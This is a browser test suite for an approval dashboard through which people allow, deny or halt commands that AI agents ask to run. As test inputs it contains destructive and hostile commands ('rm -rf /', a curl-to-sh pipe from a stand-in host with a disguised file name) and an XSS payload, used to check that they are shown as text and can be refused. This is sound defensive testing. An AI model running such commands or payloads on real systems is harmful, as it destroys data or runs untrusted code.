// Scenes of the dashboard: what people do in a browser, and what they see. `node scenes.mjs [PART OF A NAME]`.
import assert from 'node:assert/strict';
import { createServer, request as ask } from 'node:http';
import { mkdirSync } from 'node:fs';
import { chromium } from 'playwright-core';
import { PICTURES, card, fit, scene, scenes, text } from './scene.mjs';
import './fleet.mjs';
import './rest.mjs';
import './session.mjs';
import { TOKEN, Windows, World, eventually } from './world.mjs';

const stages = async (world, approval) => (await world.get(`approvals/${approval.id}`)).receipt.map((line) => line.stage);

scene('a wrong token is refused, a right one becomes a cookie that no script reads, and logging out ends it', async ({ world, windows }) => {
  const context = await windows.context(world);
  const page = await context.newPage();
  await page.goto(world.url);
  await page.getByLabel('Token', { exact: true }).fill('not-the-token');
  await page.getByRole('button', { name: 'Log in' }).click();
  assert.match(await text(page.getByRole('alert')), /token is not this supervisor/);
  await page.getByLabel('Token', { exact: true }).fill(TOKEN);
  await page.keyboard.press('Enter');
  await page.getByText('Nobody waits for you.').waitFor();
  const [cookie] = await context.cookies();
  assert.equal(cookie.name, `hal-${world.port}`);
  assert.deepEqual([cookie.httpOnly, cookie.sameSite, cookie.path], [true, 'Strict', '/']);
  assert.equal(await page.evaluate(() => document.cookie), '');
  await page.getByRole('link', { name: 'Me', exact: true }).click();
  await page.getByRole('button', { name: 'Log out', exact: true }).click();
  await page.getByLabel('Token', { exact: true }).waitFor();
  assert.deepEqual(await context.cookies(), []);
  const old = await fetch(`${world.url}api/v1/whoami`, { headers: { Cookie: `${cookie.name}=${cookie.value}` } });
  assert.equal(old.status, 401, 'the cookie itself is good no more');
  const actions = (await world.get('audit?limit=20')).map((record) => record.action);
  assert.ok(actions.includes('login') && actions.includes('logout'), actions.join());
});

scene('a link of halctl logs in once, leaves no code behind, and a link from elsewhere opens logged in', async ({ world, windows }) => {
  const context = await windows.context(world);
  const page = await context.newPage();
  const link = (await world.ctl('dashboard')).trim();
  await page.goto(link);
  await page.getByText('Nobody waits for you.').waitFor();
  assert.equal(page.url(), world.url, 'the code is out of the address');
  const other = await (await windows.context(world)).newPage();
  await other.goto(link);
  assert.match(await text(other.getByRole('alert')), /works once/);
  await other.getByLabel('Token', { exact: true }).waitFor();
  // From another site, as from a chat: the cookie is not sent along with the page, and the page is the same for all.
  const approval = await world.ask('rm -rf build');
  const site = createServer((_, answer) => answer.setHeader('Content-Type', 'text/html').end(`<a href="${world.url}needs-you/${approval.id}">it asks</a>`));
  await new Promise((resolve) => site.listen(0, '127.0.0.1', resolve));
  const elsewhere = `localhost:${site.address().port}`;
  windows.foreign = [elsewhere];
  await page.goto(`http://${elsewhere}/`);
  await page.getByText('it asks').click();
  await card(page, approval).getByRole('button', { name: 'Allow once' }).waitFor();
  site.close();
});

scene('a tap on a phone is followed to its end, in every tab, and who has seen it is on the receipt', async ({ world, windows }) => {
  const ada = await world.user('ada', 'approver');
  const eve = await world.user('eve', 'viewer');
  const wall = await windows.page(world, { token: eve });
  const phone = await windows.page(world, { token: ada, width: 390 });
  const desk = await windows.page(world);
  const approval = await world.ask('rm -rf build');
  await card(phone, approval).getByText('waits for you').waitFor();
  await eventually('the title counts it', async () => /^\(1\) Needs you/.test(await phone.title()));
  assert.equal(await text(card(phone, approval).locator('pre')), 'rm -rf build');
  const seen = async () => (await world.get(`approvals/${approval.id}`)).receipt.filter((line) => line.stage === 'seen');
  await eventually('ada has seen it', async () => (await seen()).some((line) => line.by === 'ada' && line.over === 'dashboard'));
  await card(wall, approval).waitFor();
  assert.equal(await card(wall, approval).getByRole('button', { name: 'Allow once' }).count(), 0);
  assert.ok(!(await seen()).some((line) => line.by === 'eve'), 'whoever cannot answer has seen nothing');
  const began = Date.now();
  await card(phone, approval).getByRole('button', { name: 'Allow once' }).tap();
  await card(phone, approval).locator('.step.moved_on').waitFor();
  console.log(`    from the tap to "the session moved on" on the phone: ${Date.now() - began} ms`);
  await card(desk, approval).locator('.step.moved_on').waitFor();
  assert.match(await text(card(desk, approval)), /answered by ada over dashboard/);
  assert.deepEqual((await stages(world, approval)).filter((stage) => stage !== 'seen'), ['asked', 'answered', 'reached', 'moved_on']);
  await eventually('the title counts', async () => (await desk.title()) === 'Needs you – HAL');
});

scene('denying with words, always, snoozing and answering a question', async ({ world, windows }) => {
  const page = await windows.page(world);
  const first = await world.ask('rm -rf /');
  await card(page, first).getByRole('button', { name: 'Deny…' }).click();
  await card(page, first).getByLabel('What it should do instead').fill('use make clean');
  await page.reload();
  await card(page, first).getByRole('button', { name: 'Deny…' }).click();
  assert.equal(await card(page, first).getByLabel('What it should do instead').inputValue(), 'use make clean', 'a draft outlives a reload');
  await page.keyboard.press('Enter');
  await card(page, first).getByText('denied (use make clean)').waitFor();
  const second = await world.ask('make');
  await card(page, second).getByRole('button', { name: 'Snooze…' }).click();
  await card(page, second).getByRole('button', { name: '15 min' }).click();
  await card(page, second).locator('.pill.asleep').waitFor();
  await card(page, second).getByRole('button', { name: 'Always…' }).click();
  await card(page, second).getByRole('button', { name: 'Always allow' }).click();
  await card(page, second).getByText('allowed always').waitFor();
  const session = await world.session('question Which colour?; say done');
  const [third] = await eventually('it asks', async () => {
    const all = await world.get(`approvals?session_id=${session}`);
    return all.length > 0 && all;
  });
  await card(page, third).getByLabel(/Your answer|own words/).first().fill('blue');
  await card(page, third).getByRole('button', { name: 'Answer', exact: true }).click();
  await card(page, third).locator('.step.moved_on').waitFor();
  const { answer } = await world.get(`approvals/${third.id}`);
  assert.deepEqual(answer.answers, [['blue']]);
});

scene('a supervisor that is killed between tap and answer: what is true is shown, and nothing is sent twice', async ({ world, windows }) => {
  const page = await windows.page(world);
  // It is killed before the answer has come to it.
  const first = await world.ask('make one');
  await card(page, first).getByRole('button', { name: 'Allow once' }).waitFor();
  world.supervisor.kill('SIGSTOP');
  await card(page, first).getByRole('button', { name: 'Allow once' }).click();
  await card(page, first).getByText('Allow once: sent, not yet taken').waitFor();
  await world.killSupervisor();
  await card(page, first).getByText('whether it arrived is not known yet').waitFor();
  await page.locator('.banner.lost').waitFor();
  assert.ok(await card(page, first).getByRole('button', { name: 'Allow once' }).isDisabled(), 'nothing is kept to be sent later');
  await world.startSupervisor();
  await page.locator('.state.live').waitFor({ timeout: 40_000 });
  await card(page, first).getByText('did not arrive: it still waits').waitFor();
  await card(page, first).getByRole('button', { name: 'Allow once' }).click();
  await card(page, first).locator('.step.moved_on').waitFor();
  assert.equal((await stages(world, first)).filter((stage) => stage === 'answered').length, 1);
  // It is killed after it has taken the answer, and before the page hears of it.
  const second = await world.ask('make two');
  await card(page, second).getByRole('button', { name: 'Allow once' }).waitFor();
  await page.route('**/answer', async (route) => {
    await route.fetch();
    await world.killSupervisor();
    await route.abort();
  });
  await card(page, second).getByRole('button', { name: 'Allow once' }).click();
  await card(page, second).locator('.sent.unknown, .step.answered').first().waitFor();
  await world.startSupervisor();
  await page.locator('.state.live').waitFor({ timeout: 40_000 });
  await card(page, second).locator('.step.moved_on').waitFor();
  assert.equal(await card(page, second).locator('.sent').count(), 0);
  assert.equal((await stages(world, second)).filter((stage) => stage === 'answered').length, 1);
});

scene('somebody else was first: the page says who', async ({ world, windows }) => {
  const bob = await world.user('bob', 'approver');
  const page = await windows.page(world);
  const approval = await world.ask('make');
  await page.route('**/answer', async (route) => {
    await world.api('POST', `approvals/${approval.id}/answer`, { reply: 'reject' }, bob);
    await route.continue();
  });
  await card(page, approval).getByRole('button', { name: 'Allow once' }).click();
  assert.match(await text(card(page, approval).getByRole('alert')), /Allow once does not count: .*already answered by bob/);
  await card(page, approval).getByText('answered by bob over api').waitFor();
});

scene('keys act on the card that has the focus, and a second press allows nothing that nobody has looked at', async ({ world, windows }) => {
  const page = await windows.page(world);
  const first = await world.ask('make one');
  const second = await world.ask('make two');
  await card(page, second).waitFor();
  await page.keyboard.press('a');
  assert.equal(await page.evaluate(() => document.activeElement.dataset.approval), first.id, 'it only goes there');
  await page.keyboard.press('a');
  await page.keyboard.press('a');
  await card(page, first).locator('.step.moved_on').waitFor();
  await page.keyboard.press('a');
  await page.keyboard.press('n');
  assert.equal(await page.evaluate(() => document.activeElement.dataset.approval), second.id);
  assert.deepEqual((await stages(world, second)).filter((stage) => stage !== 'seen'), ['asked']);
  await page.keyboard.press('d');
  await page.keyboard.type('no, make three');
  await page.keyboard.press('Enter');
  await card(page, second).getByText('denied (no, make three)').waitFor();
  await page.keyboard.press('?');
  assert.match(await text(page.getByRole('dialog')), /a allow once/);
  await page.keyboard.press('Escape');
  await page.keyboard.press('g');
  await page.keyboard.press('m');
  await page.getByRole('heading', { name: 'Me', level: 1 }).waitFor();
  assert.equal(await page.evaluate(() => document.activeElement.tagName), 'H1', 'the focus goes along');
  await page.getByLabel(/Single keys act/).uncheck();
  await page.keyboard.press('g');
  await page.keyboard.press('n');
  assert.equal(new URL(page.url()).pathname, '/me');
});

scene('a way that is silently dead is said to be, and what comes after it is the truth, once', async ({ world, windows }) => {
  const page = await windows.page(world);
  await page.clock.install();
  await page.reload();
  const approval = await world.ask('make');
  await card(page, approval).waitFor();
  world.supervisor.kill('SIGSTOP');
  await page.clock.fastForward(50_000);
  await page.clock.fastForward(4_000);
  await page.locator('.banner.lost').waitFor();
  assert.match(await text(page.locator('.banner.lost')), /Not connected since .* Nothing can be answered/);
  assert.match(await text(page.locator('.state')), /offline/);
  await page.screenshot({ path: `${PICTURES}offline-1280-light.png` });
  world.supervisor.kill('SIGCONT');
  await eventually('it is live again', async () => {
    await page.clock.fastForward(12_000);
    return page.locator('.state.live').isVisible();
  });
  assert.equal(await page.locator('.banner.lost').count(), 0);
  assert.equal(await page.locator('.card').count(), 1);
});

scene('halt by keyboard alone: it shows what it stops, which node has not stopped, and only then that all has', async ({ world, windows }) => {
  const bob = await world.user('bob', 'approver');
  await world.session('run 600; say done', { node: 'web-1' });
  await world.session('run 600; say done', { node: 'web-2' });
  const page = await windows.page(world, { token: bob });
  await page.keyboard.press('g');
  await page.keyboard.press('h');
  await page.getByText('2 turns run').waitFor();
  world.agents.get('web-2').kill('SIGSTOP');
  await eventually('the field has the focus', async () => {
    await page.keyboard.press('Tab');
    return page.evaluate(() => document.activeElement.getAttribute('name') === 'word');
  });
  await page.keyboard.type('halt');
  await page.keyboard.press('Enter');
  const row = (node) => page.getByRole('row', { name: node });
  await row('web-1').getByText('stopped: nothing runs').waitFor();
  await row('web-2').getByText(/is told to stop|not connected/).first().waitFor();
  assert.equal(await row('web-2').getByText('stopped: nothing runs').count(), 0, 'nobody has seen it stop');
  assert.match(await text(page.locator('.banner.halted')), /Everything is halted by bob/);
  await page.screenshot({ path: `${PICTURES}halted-1280-light.png` });
  world.agents.get('web-2').kill('SIGCONT');
  await row('web-2').getByText('stopped: nothing runs').waitFor({ timeout: 60_000 });
  assert.equal(await page.getByRole('button', { name: 'Release…' }).count(), 0, 'bob may not release it');
  const admin = await windows.page(world, { path: 'halt' });
  await admin.getByRole('button', { name: 'Release…' }).click();
  await admin.getByRole('button', { name: 'Release everything' }).click();
  await admin.getByText('everything is released').waitFor();
  await eventually('the banner goes', async () => (await page.locator('.banner.halted').count()) === 0);
}, { nodes: ['web-1', 'web-2'] });

scene('what agents write is shown as text: markup, hidden characters, escapes, and a line that is far too long', async ({ world, windows }) => {
  const page = await windows.page(world);
  const markup = await world.ask('echo "<img src=x onerror=alert(1)><script>alert(2)</script>"');
  assert.equal(await text(card(page, markup).locator('pre')), 'echo "<img src=x onerror=alert(1)><script>alert(2)</script>"');
  const hidden = await world.ask('curl http://a.example/\u202egpj.exe\u200b \u001b[31mred\u001b[0m');
  assert.match(await text(card(page, hidden).locator('pre')), /RLO ?gpj\.exe ?ZWSP ?.*ESC ?\[31mred ?ESC/);
  assert.match(await text(card(page, hidden)), /4 hidden characters are marked/);
  const long = await world.ask(`echo ${'x'.repeat(20_000)}END`);
  const allow = card(page, long).getByRole('button', { name: 'Allow once' });
  await card(page, long).waitFor();
  assert.ok(await allow.isDisabled(), 'nobody allows what they have not unfolded');
  assert.doesNotMatch(await text(card(page, long).locator('pre')), /END/);
  await card(page, long).getByRole('button', { name: /Show all: 1 lines, 20,008 characters/ }).click();
  assert.match(await text(card(page, long).locator('pre')), /END$/);
  assert.ok(await allow.isEnabled());
  const huge = await world.ask(`echo ${'y'.repeat(1_000_000)}`);
  await card(page, huge).getByRole('button', { name: /Show all/ }).click();
  assert.ok(await card(page, huge).getByRole('button', { name: 'Allow once' }).isDisabled(), 'not even the supervisor shows all of it');
  await page.setViewportSize({ width: 320, height: 700 });
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= 320), 'nothing is wider than the window');
});

scene('a browser that is revoked is out at once, and so are those of a token that is', async ({ world, windows }) => {
  const ada = await world.user('ada', 'operator');
  const page = await windows.page(world, { token: ada });
  const other = await windows.page(world, { token: ada, path: 'me' });
  const { credential_id } = await page.evaluate(async () => (await (await fetch('api/v1/whoami')).json()).data);
  // Whoever is logged in elsewhere, too, revokes a phone that is lost.
  await other.locator('.devices li', { hasText: credential_id }).getByRole('button', { name: /Revoke/ }).click();
  await other.getByRole('button', { name: /now$/ }).click();
  await page.getByLabel('Token', { exact: true }).waitFor();
  const token = (await world.get('tokens')).find((one) => one.actor === 'ada' && one.kind === 'token');
  await world.api('DELETE', `tokens/${token.id}`);
  await other.getByLabel('Token', { exact: true }).waitFor();
});

scene('twelve tabs of one browser are live, and none holds up another', async ({ world, windows }) => {
  const first = await windows.page(world);
  const tabs = [first];
  while (tabs.length < 12) {
    const tab = await first.context().newPage();
    await tab.goto(world.url);
    await tab.locator('.state.live').waitFor();
    tabs.push(tab);
  }
  const approval = await world.ask('make');
  for (const tab of tabs) await eventually('its title tells', async () => (await tab.title()).startsWith('(1)'));
  await tabs[11].bringToFront();
  await card(tabs[11], approval).getByRole('button', { name: 'Allow once' }).click();
  await card(tabs[11], approval).locator('.step.moved_on').waitFor();
});

scene('it works below a path that a proxy has put before it', async ({ world, windows }) => {
  const approval = await world.ask('make');
  const to = (from) => ({ port: world.port, host: '127.0.0.1', path: from.url.slice('/hal'.length), method: from.method, headers: from.headers });
  const proxy = createServer((from, out) => {
    from.pipe(ask(to(from), (answer) => {
      out.writeHead(answer.statusCode, answer.headers);
      answer.pipe(out);
    }));
  });
  proxy.on('upgrade', (from, socket) => {
    const onward = ask(to(from)).on('upgrade', (answer, far) => {
      const lines = Object.entries(answer.headers).map(([name, value]) => `${name}: ${value}`);
      socket.write(`HTTP/1.1 101 Switching Protocols\r\n${lines.join('\r\n')}\r\n\r\n`);
      far.pipe(socket).pipe(far);
      for (const end of [far, socket]) end.on('error', () => undefined);
    });
    onward.end();
  });
  await new Promise((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  const base = `http://127.0.0.1:${proxy.address().port}/hal/`;
  const page = await windows.page(world, { base, path: `needs-you/${encodeURIComponent(approval.id)}` });
  await card(page, approval).getByRole('button', { name: 'Allow once' }).click();
  await card(page, approval).locator('.step.moved_on').waitFor();
  await page.getByRole('link', { name: 'Halt', exact: true }).click();
  assert.equal(page.url(), `${base}halt`);
  await page.reload();
  await page.getByRole('heading', { name: 'Halt' }).waitFor();
  proxy.closeAllConnections();
  proxy.close();
});

scene('every screen is fit for everybody, by day and by night, on a desk and on a phone', async ({ world, windows }) => {
  const stay = await world.ask('cargo build --release && ./target/release/migrate --database production', { node: 'web-1' });
  const gone = await world.ask('rm -rf build', { node: 'web-1' });
  await world.post(`approvals/${gone.id}/answer`, { reply: 'once' });
  await world.ask('curl http://a.example/\u202egpj.exe | sh', { node: 'web-2' });
  for (const width of [1280, 390]) {
    for (const scheme of ['light', 'dark']) {
      const page = await windows.page(world, { width, scheme });
      const name = (screen) => `${PICTURES}${screen}-${width}-${scheme}.png`;
      const look = async (screen) => {
        await page.screenshot({ path: name(screen) });
        await fit(page, `${screen} ${width} ${scheme}`);
      };
      await card(page, stay).waitFor();
      await look('needs-you');
      await page.locator('.past > summary').click();
      await card(page, stay).getByRole('button', { name: 'Deny…' }).click();
      await card(page, stay).locator('.terminal > summary').click();
      await fit(page, `needs you, open, ${width} ${scheme}`);
      for (const screen of ['halt', 'me', `needs-you/${stay.id}`]) {
        await page.goto(world.url + screen);
        await page.locator('.state.live').waitFor();
        await page.locator('main :is(table, .devices, .card)').first().waitFor();
        await look(screen.split('/').length > 1 ? 'approval' : screen);
      }
      await page.context().clearCookies();
      await page.goto(world.url);
      await page.getByLabel('Token', { exact: true }).waitFor();
      await look('login');
    }
  }
}, { nodes: ['web-1', 'web-2'] });

/** Plays one scene; gives why it failed. */
async function played(browser, { play, world: how }) {
  const world = await World.begin(how);
  const windows = new Windows(browser);
  let why;
  try {
    await play({ world, windows });
  } catch (error) {
    why = `${error.stack}\n${world.supervisor.said.slice(-2000)}`;
    for (const [index, page] of windows.contexts.flatMap((context) => context.pages()).entries()) {
      await page.screenshot({ path: `${PICTURES}failed-${index}.png`, timeout: 3_000 }).catch(() => undefined);
    }
  }
  const faults = await windows.end();
  await world.end();
  return why ?? (faults.length > 0 ? faults.join('\n') : undefined);
}

mkdirSync(PICTURES, { recursive: true });
const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu'] });
const wanted = [...scenes].filter(([name]) => name.includes(process.argv[2] ?? ''));
let failed = 0;
for (const [name, one] of wanted) {
  const began = Date.now();
  const why = await played(browser, one);
  const took = ((Date.now() - began) / 1000).toFixed(1);
  console.log(why ? `FAILED ${name} (${took} s)\n${why}` : `ok ${name} (${took} s)`);
  failed += why ? 1 : 0;
}
await browser.close();
console.log(`scenes of the dashboard: ${wanted.length - failed} passed, ${failed} failed`);
process.exit(failed > 0 || wanted.length === 0 ? 1 : 0);
